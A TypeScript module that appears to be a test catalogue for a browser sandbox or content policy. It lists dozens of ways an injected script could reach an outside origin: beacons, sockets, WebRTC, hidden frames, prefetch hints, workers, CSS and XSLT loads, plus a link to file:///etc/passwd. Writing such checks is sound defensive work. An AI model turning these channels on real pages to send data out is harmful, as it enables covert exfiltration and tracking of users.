/** Tries to reach an origin (`http://127.0.0.1:1234`); runs in the page, so it knows nothing but what it is given. */
type Way = (origin: string) => unknown;

/**
 * Every kind of way by which a page could reach, or look up, something outside: what a script tries that has got into the page.
 * A way that does not exist in an engine throws, which is as good as being refused.
 */
export const waysOut: Readonly<Record<string, Way>> = {
  // Requests of a script.
  fetch: (origin) => fetch(`${origin}/fetch`, { mode: 'no-cors' }),
  'fetch that outlives the page': (origin) =>
    fetch(`${origin}/keepalive`, { method: 'POST', keepalive: true, mode: 'no-cors', body: 'words' }),
  'fetch that is put off': (origin) => (window as Loose).fetchLater(`${origin}/later`, { activateAfter: 0 }),
  XMLHttpRequest: (origin) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${origin}/xhr`);
    request.send('words');
  },
  beacon: (origin) => navigator.sendBeacon(`${origin}/beacon`, 'words'),
  WebSocket: (origin) => new WebSocket(`${origin.replace('http', 'ws')}/socket`),
  'socket stream': (origin) =>
    new (window as Loose).WebSocketStream(`${origin.replace('http', 'ws')}/stream`).opened,
  EventSource: (origin) => new EventSource(`${origin}/events`),
  WebTransport: (origin) => new WebTransport(`${origin.replace('http:', 'https:')}/transport`).ready,
  'background fetch': async (origin) => {
    const worker = await navigator.serviceWorker.ready;
    await (worker as Loose).backgroundFetch.fetch('way', [`${origin}/background`]);
  },
  // Direct connections, and how peers find each other. The window has no constructor for them; an empty frame brings its own.
  STUN: async (origin) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(origin).host}` }] });
    peer.createDataChannel('way');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'STUN of a frame': async (origin) => {
    const { contentWindow } = document.body.appendChild(document.createElement('iframe'));
    const peer = new (contentWindow as Loose).RTCPeerConnection({
      iceServers: [{ urls: `stun:${new URL(origin).host}` }],
    });
    peer.createDataChannel('way');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'TURN of a frame, over TCP': async (origin) => {
    const { contentWindow } = document.body.appendChild(document.createElement('iframe'));
    const peer = new (contentWindow as Loose).RTCPeerConnection({
      iceServers: [
        { urls: `turn:${new URL(origin).host}?transport=tcp`, username: 'a', credential: 'b' },
        { urls: `turns:${new URL(origin).host}`, username: 'a', credential: 'b' },
      ],
      iceTransportPolicy: 'relay',
    });
    peer.createDataChannel('way');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'candidates that a frame is told': async (origin) => {
    const { contentWindow } = document.body.appendChild(document.createElement('iframe'));
    const Peer = (contentWindow as Loose).RTCPeerConnection;
    const [one, other] = [new Peer(), new Peer()];
    one.createDataChannel('way');
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription);
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription);
    const { hostname, port } = new URL(origin);
    for (const address of [hostname, 'a0a0a0a0-0000-4000-8000-000000000000.local']) {
      const candidate = `candidate:1 1 udp 2122260223 ${address} ${port || 9} typ host`;
      await one.addIceCandidate({ candidate, sdpMid: '0' });
    }
  },
  // What a document loads.
  picture: (origin) => {
    new Image().src = `${origin}/picture.png`;
  },
  'picture of a set': (origin) => {
    new Image().srcset = `${origin}/set.png 1x`;
  },
  film: (origin) => {
    document.body.append(
      Object.assign(document.createElement('video'), {
        src: `${origin}/film.mp4`,
        poster: `${origin}/poster.png`,
      }),
    );
  },
  sound: (origin) => {
    void new Audio(`${origin}/sound.mp3`).play();
  },
  track: (origin) => {
    const video = document.createElement('video');
    video.append(
      Object.assign(document.createElement('track'), {
        src: `${origin}/track.vtt`,
        default: true,
        kind: 'captions',
      }),
    );
    document.body.append(video);
    for (const { track } of video.querySelectorAll('track')) track.mode = 'showing';
  },
  script: (origin) => {
    document.body.append(Object.assign(document.createElement('script'), { src: `${origin}/script.js` }));
  },
  'SVG that uses another': (origin) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const use = document.createElementNS('http://www.w3.org/2000/svg', 'use');
    use.setAttribute('href', `${origin}/use.svg#a`);
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', `${origin}/image.svg`);
    svg.append(use, image);
    document.body.append(svg);
  },
  'style sheet': (origin) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/style.css` }),
    );
  },
  'styles that are written': (origin) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`
      @font-face { font-family: way; src: url(${origin}/font.woff2) }
      body { background: url(${origin}/background.png); cursor: url(${origin}/cursor.png), auto; font-family: way; mask-image: image-set("${origin}/mask.png" 1x); content: url(${origin}/content.png) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'styles that import': (origin) => {
    document.head.append(
      Object.assign(document.createElement('style'), { textContent: `@import url(${origin}/import.css);` }),
    );
  },
  font: (origin) => new FontFace('way', `url(${origin}/face.woff2)`).load(),
  worklet: (origin) => new OfflineAudioContext(1, 1, 44_100).audioWorklet.addModule(`${origin}/worklet.js`),
  'frames, objects, embeds and portals': (origin) => {
    for (const name of ['iframe', 'embed', 'frame', 'portal', 'fencedframe', 'webview', 'object'])
      document.body.append(
        Object.assign(document.createElement(name), { src: `${origin}/${name}`, data: `${origin}/${name}` }),
      );
  },
  'frame with a document of its own': (origin) => {
    const frame = document.createElement('iframe');
    frame.setAttribute(
      'srcdoc',
      `<img src="${origin}/srcdoc.png"><meta http-equiv="refresh" content="0; url=${origin}/refresh">`,
    );
    document.body.append(frame);
  },
  'frame that leaves': (origin) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    (frame.contentWindow as Loose).location = `${origin}/frame`;
  },
  // Hints.
  hints: (origin) => {
    for (const rel of [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'preload',
      'modulepreload',
      'prerender',
      'icon',
      'manifest',
      'alternate',
      'subresource',
    ])
      for (const as of ['', 'image', 'script', 'style', 'font', 'fetch'])
        document.head.append(
          Object.assign(document.createElement('link'), { rel, as, href: `${origin}/${rel}` }),
        );
  },
  'speculation rules': (origin) => {
    const rules = {
      prefetch: [{ source: 'list', urls: [`${origin}/prefetched`] }],
      prerender: [{ source: 'list', urls: [`${origin}/prerendered`] }],
    };
    document.head.append(
      Object.assign(document.createElement('script'), {
        type: 'speculationrules',
        textContent: JSON.stringify(rules),
      }),
    );
  },
  // Workers.
  worker: (origin) => new Worker(`${origin}/worker.js`),
  'shared worker': (origin) => new SharedWorker(`${origin}/shared.js`),
  'service worker': (origin) => navigator.serviceWorker.register(`${origin}/service.js`),
  'worker that is written': (origin) => {
    const code = `fetch('${origin}/worker-fetch', { mode: 'no-cors' }); new WebSocket('${origin.replace('http', 'ws')}/worker-socket'); importScripts('${origin}/imported.js')`;
    for (const address of [
      URL.createObjectURL(new Blob([code], { type: 'text/javascript' })),
      `data:text/javascript,${encodeURIComponent(code)}`,
    ])
      new Worker(address);
  },
  module: (origin) => import(/* @vite-ignore */ `${origin}/module.js`),
  WebAssembly: (origin) => WebAssembly.compileStreaming(fetch(`${origin}/module.wasm`, { mode: 'no-cors' })),
  // Leaving.
  forms: (origin) => {
    for (const [method, target] of [
      ['get', ''],
      ['post', ''],
      ['post', '_blank'],
      ['dialog', ''],
    ] as const) {
      const form = Object.assign(document.createElement('form'), {
        action: `${origin}/form`,
        method,
        target,
      });
      document.body.append(form);
      form.submit();
    }
  },
  'new window': (origin) => window.open(`${origin}/window`, '_blank', 'noopener'),
  location: (origin) => {
    location.href = `${origin}/location`;
  },
  'location, replaced': (origin) => location.replace(`${origin}/replaced`),
  history: (origin) => (window as Loose).navigation.navigate(`${origin}/history`),
  refresh: (origin) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = `0; url=${origin}/refresh`;
    document.head.append(meta);
  },
  'link that pings': (origin) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: `${origin}/ping` });
    document.body.append(link);
    link.click();
  },
  'link that reports its source': (origin) => {
    const link = Object.assign(document.createElement('a'), {
      href: `${origin}/attributed`,
      target: '_blank',
    });
    link.setAttribute('attributionsrc', `${origin}/source`);
    document.body.append(link);
    link.click();
  },
  download: (origin) => {
    const link = Object.assign(document.createElement('a'), {
      href: `${origin}/download`,
      download: 'file.txt',
    });
    document.body.append(link);
    link.click();
  },
  'other programs': (origin) => {
    for (const address of [
      `mailto:a@example.org?body=${origin}`,
      'tel:1',
      'ms-word:ofe|u|x',
      'intent://x',
      `view-source:${origin}`,
      'chrome://net-internals',
      'file:///etc/passwd',
    ]) {
      const link = Object.assign(document.createElement('a'), { href: address, target: '_blank' });
      document.body.append(link);
      link.click();
    }
  },
  'protocol handler': (origin) => navigator.registerProtocolHandler('web+way', `${origin}/%s`),
  // What asks a person, or the system.
  share: (origin) => navigator.share({ url: `${origin}/shared` }),
  position: () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  notification: async (origin) => {
    await Notification.requestPermission();
    new Notification('way', { icon: `${origin}/notice.png` });
  },
  'push messages': async () =>
    (await navigator.serviceWorker.ready).pushManager.subscribe({ userVisibleOnly: true }),
  payment: (origin) =>
    new PaymentRequest([{ supportedMethods: `${origin}/pay` }], {
      total: { label: 'a', amount: { currency: 'EUR', value: '1' } },
    }).show(),
  identity: (origin) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: `${origin}/identity.json`, clientId: 'a' }] },
    } as Loose),
  permissions: () =>
    Promise.allSettled([
      navigator.requestMIDIAccess(),
      navigator.storage.persist(),
      navigator.wakeLock.request(),
      (window as Loose).queryLocalFonts(),
      (window as Loose).IdleDetector.requestPermission(),
      (window as Loose).getScreenDetails(),
    ]),
  'key of the person': () =>
    navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 100 } }),
  casting: (origin) => new (window as Loose).PresentationRequest(`${origin}/cast`).start(),
  'cast of a film': (origin) =>
    (Object.assign(document.createElement('video'), { src: `${origin}/cast.mp4` }) as Loose).remote.prompt(),
  devices: () =>
    Promise.allSettled([
      (navigator as Loose).bluetooth?.requestDevice({ acceptAllDevices: true }),
      (navigator as Loose).usb?.requestDevice({ filters: [] }),
      (navigator as Loose).serial?.requestPort(),
      (navigator as Loose).hid?.requestDevice({ filters: [] }),
      navigator.mediaDevices?.getUserMedia({ audio: true, video: true }),
      navigator.mediaDevices?.getDisplayMedia(),
    ]),
  'direct sockets': (origin) => {
    const { hostname, port } = new URL(origin);
    return Promise.allSettled([
      new (window as Loose).TCPSocket(hostname, Number(port || 80)).opened,
      new (window as Loose).UDPSocket({ remoteAddress: hostname, remotePort: Number(port || 53) }).opened,
    ]);
  },
  'words that are spoken': () => speechSynthesis.speak(new SpeechSynthesisUtterance('way')),
  'words that are heard': () => new (window as Loose).webkitSpeechRecognition().start(),
  'language models': () =>
    Promise.allSettled([
      (window as Loose).Translator?.create({ sourceLanguage: 'en', targetLanguage: 'de' }),
      (window as Loose).LanguageModel?.create(),
    ]),
  spelling: () => {
    const field = Object.assign(document.createElement('textarea'), {
      spellcheck: true,
      lang: 'en-US',
      value: 'wrogn wrods',
    });
    document.body.append(field);
    field.focus();
  },
  // Reports, tokens and stores that others run for the browser.
  'reports of errors': (origin) => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'Content-Security-Policy';
    meta.content = `img-src 'none'; report-uri ${origin}/report; report-to ${origin}`;
    document.head.append(meta);
    new Image().src = 'data:,';
    reportError(new Error('way'));
  },
  tokens: (origin) =>
    Promise.allSettled([
      fetch(`${origin}/token`, { privateToken: { version: 1, operation: 'token-request' } } as Loose),
      (document as Loose).hasPrivateToken?.(origin),
    ]),
  'stores of advertisers': (origin) =>
    Promise.allSettled([
      (window as Loose).sharedStorage?.worklet.addModule(`${origin}/shared-storage.js`),
      (navigator as Loose).joinAdInterestGroup?.(
        { owner: origin, name: 'way', updateURL: `${origin}/group` },
        1,
      ),
      (navigator as Loose).runAdAuction?.({ seller: origin, decisionLogicURL: `${origin}/auction.js` }),
      (document as Loose).browsingTopics?.(),
    ]),
  'storage of others': (origin) => (document as Loose).requestStorageAccessFor?.(origin),
  manifest: (origin) => {
    document.head.append(
      Object.assign(document.createElement('link'), {
        rel: 'manifest',
        href: `data:application/manifest+json,{"icons":[{"src":"${origin}/icon.png"}]}`,
      }),
    );
  },
  'pasted page': (origin) => {
    const editor = document.querySelector('[contenteditable]') ?? document.body;
    const pasted = new DataTransfer();
    pasted.setData('text/html', `<img src="${origin}/pasted.png"><link rel="preconnect" href="${origin}">`);
    editor.dispatchEvent(new ClipboardEvent('paste', { clipboardData: pasted, bubbles: true }));
  },
  'parsed page': (origin) => {
    new DOMParser().parseFromString(
      `<img src="${origin}/parsed.png"><video src="${origin}/parsed.mp4" autoplay>`,
      'text/html',
    );
    const made = document.implementation.createHTMLDocument();
    made.body.append(Object.assign(made.createElement('img'), { src: `${origin}/made.png` }));
  },
  'sheet for XML': (origin) => {
    const sheet = new DOMParser().parseFromString(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${origin}/a.xsl"/><xsl:template match="/"><xsl:copy-of select="document('${origin}/b.xml')"/></xsl:template></xsl:stylesheet>`,
      'application/xml',
    );
    const processor = new XSLTProcessor();
    processor.importStylesheet(sheet);
    processor.transformToFragment(document, document);
  },
};

/** What a browser has, or may have one day, that TypeScript does not know. */
// biome-ignore lint/suspicious/noExplicitAny: an attacker does not ask for types
type Loose = any;
